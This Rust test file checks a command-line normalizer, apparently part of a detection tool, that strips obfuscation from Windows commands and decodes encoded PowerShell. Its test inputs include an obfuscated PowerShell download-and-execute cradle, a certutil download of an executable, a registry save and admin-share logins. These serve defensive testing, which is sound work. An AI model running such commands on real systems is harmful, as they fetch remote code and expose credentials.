//! The command-line normal form: idempotent, and obfuscations collapse.

use base64::Engine;
use landwatch::normalize::{command_line, pattern};
use proptest::prelude::*;

fn tricky() -> impl Strategy<Value = String> {
    let atoms = prop::sample::select(vec![
        "^", "\"", "%", "/", "-", " ", "  ", "\t", "a", "B", "\\", ":", "=", ".", "x", "e", "n",
        "c", "windir", "COMSPEC", "ProgramFiles", "\u{2013}", "\u{200B}", "\u{00A0}", "İ",
        "enc", "-e", "/c", "'",
    ]);
    prop::collection::vec(atoms, 0..24).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn normal_form_is_idempotent(s in tricky()) {
        let once = command_line(&s).normal;
        prop_assert_eq!(command_line(&once).normal, once.clone(), "input {:?}", s);
    }

    #[test]
    fn normal_form_is_idempotent_on_any_string(s in any::<String>()) {
        let once = command_line(&s).normal;
        prop_assert_eq!(command_line(&once).normal, once);
    }

    #[test]
    fn pattern_normalization_is_idempotent(s in tricky()) {
        let once = pattern(&s);
        prop_assert_eq!(pattern(&once), once.clone(), "input {:?}", s);
    }

    #[test]
    fn whole_tokens_are_found_in_the_normal_form(words in prop::collection::vec("[a-zA-Z0-9/:=.\\\\-]{1,8}", 1..8), pick in any::<prop::sample::Index>()) {
        let line = words.join(" ");
        let token = pick.get(&words);
        let normal = command_line(&line).normal;
        let p = pattern(token);
        prop_assert!(normal.contains(p.trim()), "{:?} not in {:?}", p, normal);
    }
}

fn utf16_b64(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn obfuscated_powershell_is_normalized_and_decoded() {
    let payload = utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')");
    let n = command_line(&format!("p^o^w^e^r^s^h^e^l^l  \u{2013}nop -w hidden -e {payload}"));
    assert!(n.normal.starts_with("powershell -nop -w hidden -e "), "{}", n.normal);
    assert!(n.decoded.unwrap().contains("DownloadString"));
}

#[test]
fn encoded_commands_without_slashes_or_quotes_decode_too() {
    // base64 of this text has no '/': the plain fast path must not skip decoding.
    let payload = utf16_b64("whoami");
    assert!(!payload.contains('/'));
    let n = command_line(&format!("powershell.exe -nop -enc {payload}"));
    assert_eq!(n.decoded.as_deref(), Some("whoami"));
}

#[test]
fn examples_from_the_field() {
    let n = |s: &str| command_line(s).normal;
    assert_eq!(n("\"cert\"util -urlcache -f http://a/b c.exe"), "certutil -urlcache -f http://a/b c.exe");
    assert_eq!(n("%COMSPEC% /c whoami"), r"c:\windows\system32\cmd.exe -c whoami");
    assert_eq!(n("cmd.exe /c \"net user\""), "cmd.exe -c \"net user\"");
    assert_eq!(n("net use \\\\h\\c$ /user:CORP\\adm P@ss"), r"net use \\h\c$ -user:corp\adm p@ss");
    assert_eq!(n("cert\u{200B}util\u{00A0}\u{00A0}-f"), "certutil -f");
    assert_eq!(n("%windir%\\system32\\reg.exe save"), r"c:\windows\system32\reg.exe save");
    assert_eq!(n("x %UNKNOWN% y"), "x %unknown% y");
}

#[test]
fn huge_and_hostile_lines_do_not_break_it() {
    let big = format!("cmd /c {}", "A^\"%/".repeat(250_000));
    let n = command_line(&big);
    assert!(n.normal.starts_with("cmd -c "));
    let enc = format!("powershell -enc {}", "QUFB".repeat(300_000));
    assert_eq!(command_line(&enc).decoded, None);
    assert_eq!(command_line("powershell -enc ###").decoded, None);
}
